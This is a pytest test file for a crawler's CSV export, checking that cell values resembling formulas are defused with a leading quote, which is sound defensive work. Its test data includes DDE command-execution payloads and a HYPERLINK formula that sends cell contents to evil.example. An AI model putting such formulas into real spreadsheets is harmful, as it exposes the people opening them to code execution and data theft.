from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawler.exports.spreadsheet import FORMULA_STARTS, as_csv, defuse, restore

DANGEROUS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"ivory")',
    "+1-555-0100 call me",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "⁼1+1",
    "﬩1",
    "\u3164=1+1",
    "\u2800+1",
    "\ufe0f@SUM(A1)",
]
INSIDE = [
    ("\t=1+1", "'\t'=1+1"),
    ("\r=1+1", "'\r'=1+1"),
    ("\n=1+1", "'\n'=1+1"),
    ("ivory;=1+1", "ivory;'=1+1"),
    ('ivory; "=1+1"', 'ivory;\' "=1+1"'),
    ("ivory\n@SUM(A1)", "ivory\n'@SUM(A1)"),
    ("ivory\t\u200b＝1", "ivory\t'\u200b＝1"),
    ("ivory;'=1+1", "ivory;''=1+1"),
    ("=1;=2", "'=1;'=2"),
]
MANGLED = [
    "123456789012",
    "12345678901234567890",
    "007",
    "12E5",
    "1,5e10",
    "1-2",
    "3/4",
    "12.11.2026",
    "12.11",
    "2026-11-24",
    "12:30",
]
PLAIN = [
    "",
    "Ivory carving, 1920s",
    "Python regius cb24 -50%",
    "12 tortoiseshell combs",
    "象牙",
    "1234",
    "£1,200.00",
    "12.50 EUR",
    "2175.00",
    "12.50",
    "o'Reilly",
    "carved; 12 cm",
    "size 30-40; weight 2+1 kg",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_title_that_could_run_is_defused(text: str) -> None:
    assert defuse(text) == "'" + text


@pytest.mark.parametrize(("text", "cell"), INSIDE)
def test_what_another_reading_would_make_a_cell_of_its_own_is_defused_too(
    text: str, cell: str
) -> None:
    assert defuse(text) == cell
    assert restore(cell) == text


@pytest.mark.parametrize("delimiter", [";", "\t"])
@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
def test_no_cell_runs_where_lists_are_parted_otherwise(
    delimiter: str, quoting: int
) -> None:
    texts = [*DANGEROUS, *(text for text, _ in INSIDE)]
    rows = [{"seen": "2026-11-24", "title": text} for text in texts]
    written = as_csv(["seen", "title"], rows, own=("seen",)).decode("utf-8-sig")
    # As Excel does in much of Europe: quotes count at the start of a cell alone.
    lines = re.split("\r\n|\r|\n", written)
    read = csv.reader(lines, delimiter=delimiter, quoting=quoting, strict=False)  # type: ignore[call-overload]
    cells = [cell.lstrip('" ') for row in read for cell in row]
    started = [cell for cell in cells if cell[:1] and cell[:1] in "=+-@"]
    assert started == []


def test_a_row_with_a_semicolon_stands_in_quotes() -> None:
    rows = [{"n": 3, "title": "carved; 12 cm"}, {"n": 4, "title": "carved"}]
    written = as_csv(["n", "title"], rows, own=()).decode("utf-8-sig")
    assert written == 'n,title\r\n3,"carved; 12 cm"\r\n4,carved\r\n'


@pytest.mark.parametrize("text", MANGLED)
def test_a_number_as_published_stays_text(text: str) -> None:
    assert defuse(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_left_alone(text: str) -> None:
    assert defuse(text) == text


@given(st.text())
def test_every_text_comes_back_and_none_begins_like_a_formula(text: str) -> None:
    cell = defuse(text)
    assert restore(cell) == text
    assert cell[:1] not in FORMULA_STARTS or not cell


@given(
    st.lists(
        st.text(
            st.characters(exclude_categories=["Cs"], exclude_characters="\0"),
            max_size=40,
        )
    )
)
def test_csv_gives_back_every_published_text(texts: list[str]) -> None:
    written = as_csv(["title"], [{"title": text} for text in texts], own=())
    rows = list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    assert [restore(row[0]) if row else "" for row in rows[1:]] == texts


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("2026-11-13", "2026-11-13"),
        ("2026-11-13T10:00:00Z", "2026-11-13T10:00:00Z"),
        ("-0.25", "-0.25"),
        ('=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
    ],
)
def test_our_own_columns_keep_dates_and_still_run_nothing(
    value: str, cell: str
) -> None:
    written = as_csv(["ours"], [{"ours": value}], own=("ours",))
    rows = list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    assert rows[1] == [cell]


def test_csv_opens_as_utf8_in_excel_and_keeps_our_own_columns() -> None:
    rows = [{"title": "象牙", "seen": "2026-11-24T10:00:00Z", "day": "2026-11-24"}]
    written = as_csv(["title", "seen", "day"], rows, own=("seen", "day"))
    assert written.startswith(b"\xef\xbb\xbf")
    assert written.decode("utf-8-sig") == (
        "title,seen,day\r\n象牙,2026-11-24T10:00:00Z,2026-11-24\r\n"
    )


def test_csv_writes_numbers_bare_none_empty_and_truth_as_one_or_zero() -> None:
    row = {"a": 3, "b": -2.5, "c": None, "d": True}
    written = as_csv(["a", "b", "c", "d"], [row], own=())
    assert written.decode("utf-8-sig").splitlines()[1] == "3,-2.5,,1"


def test_a_row_without_a_column_is_an_error_not_an_empty_cell() -> None:
    with pytest.raises(KeyError, match="price"):
        as_csv(["title", "price"], [{"title": "x"}], own=())


def test_a_lone_surrogate_is_replaced_and_nothing_is_lost() -> None:
    written = as_csv(["title"], [{"title": "ivory \ud800 tusk"}], own=())
    assert "ivory ? tusk" in written.decode("utf-8-sig")
